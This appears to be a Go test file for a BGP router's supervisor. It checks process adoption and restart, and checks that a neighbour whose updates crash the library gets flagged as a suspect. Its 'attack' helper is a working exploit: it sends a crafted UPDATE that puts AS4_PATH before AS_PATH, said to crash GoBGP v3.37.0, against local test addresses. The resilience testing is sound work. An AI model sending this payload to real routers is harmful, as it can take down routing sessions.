// SPDX-License-Identifier: Apache-2.0

package speaker_test

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	packet "github.com/osrg/gobgp/v3/pkg/packet/bgp"

	"korat/bgp"
	"korat/bgp/speaker"
	"korat/bgp/speaker/status"
	"korat/test/logbook"
)

// supervised runs a Supervisor for a router until stop is called.
type supervised struct {
	*speaker.Supervisor
	log  *logbook.Book
	stop func()
}

func (r *router) supervise() supervised {
	log := &logbook.Book{}
	s := speaker.NewSupervisor(speaker.SupervisorConfig{
		Command: []string{"/usr/bin/env", socketEnv + "=" + r.socket(), statusEnv + "=" + r.status(), os.Args[0]},
		Socket:  r.socket(), StatusFile: r.status(), LogFile: filepath.Join(r.dir, "log"),
		Log: slog.New(slog.NewTextHandler(log, nil)),
	})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = s.Run(ctx)
	}()
	return supervised{s, log, func() { cancel(); <-done }}
}

func (r *router) pid() int {
	f, err := status.Read(r.status())
	if err != nil {
		r.t.Fatal(err)
	}
	return f.PID
}

// endSpeaker kills what a supervisor left behind and waits until it is gone.
func (r *router) endSpeaker() {
	pid := r.pid()
	if pid == 0 {
		return
	}
	end := time.Now().Add(patience)
	for syscall.Kill(pid, syscall.SIGKILL) == nil && time.Now().Before(end) {
		pause(context.Background())
	}
}

// The speaker outlives its supervisor, and the next one adopts it; after its death it is replaced.
func TestSupervisor(t *testing.T) {
	t.Parallel()
	a := newRouter(t, "127.0.0.1", freePort(t))
	a.startClient(false)
	first := a.supervise()
	t.Cleanup(a.endSpeaker)
	a.until("complete", func(rib bgp.RIB) bool { return rib.Complete })
	pid := a.pid()
	first.stop()
	second := a.supervise()
	defer second.stop()
	a.until("adoption", func(bgp.RIB) bool { return strings.Contains(second.log.String(), "speaker adopted") })
	if got := a.pid(); got != pid || !a.client.RIB().Running {
		t.Errorf("speaker %d after the supervisor's restart, want %d", got, pid)
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	a.until("replacement", func(rib bgp.RIB) bool { return rib.Complete && a.pid() != pid })
}

// A neighbour whose update crashes the library is found out, and the others recover without it.
func TestSuspect(t *testing.T) {
	t.Parallel()
	port := freePort(t)
	a, b := newRouter(t, "127.0.0.1", port), newRouter(t, "127.0.0.2", port, blockB)
	a.peerWith(b)
	b.peerWith(a)
	evil := netip.MustParseAddr("127.0.0.5")
	a.plan.Peers[evil] = bgp.Peer{
		Name: "evil", Kind: bgp.GlobalPeer, Address: evil, Port: port, AS: 65001, LocalAddress: a.addr,
		Passive: true, HoldTime: 9 * time.Second, Keepalive: 3 * time.Second, RestartTime: time.Second,
	}
	a.startClient(false)
	b.startClient(false)
	b.startSpeaker()
	sup := a.supervise()
	t.Cleanup(a.endSpeaker)
	defer sup.stop()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			attack(ctx, netip.AddrPortFrom(a.addr, port), evil)
		}
	}()
	defer func() { cancel(); <-done }()
	a.until("suspicion", func(bgp.RIB) bool { return len(sup.Suspects()) > 0 })
	for peer := range sup.Suspects() {
		if peer != evil {
			t.Fatalf("suspect is %s, want %s\n%s", peer, evil, sup.log)
		}
	}
	select {
	case <-sup.Wake():
	case <-time.After(patience):
		t.Error("nobody was told of the suspect")
	}
	delete(a.plan.Peers, evil)
	a.want()
	a.untilLearned("172.17.2.0/24: 127.0.0.2")
}

// attack opens a session and sends what crashes GoBGP v3.37.0 (CVE-2026-41643): from a neighbour
// without the four-octet AS capability, an AS4_PATH and after it, last of all, the AS_PATH.
func attack(ctx context.Context, to netip.AddrPort, from netip.Addr) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from.AsSlice()}, Timeout: time.Second}
	conn, err := d.DialContext(ctx, "tcp", to.String())
	if err != nil {
		pause(ctx)
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	update := packet.NewBGPUpdateMessage(nil, []packet.PathAttributeInterface{
		packet.NewPathAttributeOrigin(0),
		packet.NewPathAttributeNextHop(from.String()),
		packet.NewPathAttributeAs4Path([]*packet.As4PathParam{packet.NewAs4PathParam(2, []uint32{65001})}),
		packet.NewPathAttributeAsPath([]packet.AsPathParamInterface{packet.NewAsPathParam(2, []uint16{65001})}),
	}, []*packet.IPAddrPrefix{packet.NewIPAddrPrefix(24, "172.19.0.0")})
	var all bytes.Buffer
	for _, m := range []*packet.BGPMessage{packet.NewBGPOpenMessage(65001, 9, from.String(), nil), packet.NewBGPKeepAliveMessage(), update} {
		b, err := m.Serialize()
		if err != nil {
			return
		}
		all.Write(b)
		// An update that comes before the session is established ends it.
		if m.Header.Type == packet.BGP_MSG_KEEPALIVE {
			if _, err := conn.Write(all.Bytes()); err != nil || !keepaliveComes(conn) {
				pause(ctx)
				return
			}
			all.Reset()
		}
	}
	if _, err := conn.Write(all.Bytes()); err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, conn)
}

// keepaliveComes reads messages up to the second keepalive: the first acknowledges the OPEN, the
// next shows that the session is established.
func keepaliveComes(conn net.Conn) bool {
	head := make([]byte, packet.BGP_HEADER_LENGTH)
	for seen := 0; seen < 2; {
		if _, err := io.ReadFull(conn, head); err != nil {
			return false
		}
		n := int(head[16])<<8 | int(head[17]) - len(head)
		if _, err := io.CopyN(io.Discard, conn, int64(n)); err != nil {
			return false
		}
		if head[18] == packet.BGP_MSG_KEEPALIVE {
			seen++
		}
	}
	return true
}

// pause keeps a refused attacker from spinning.
func pause(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(50 * time.Millisecond):
	}
}
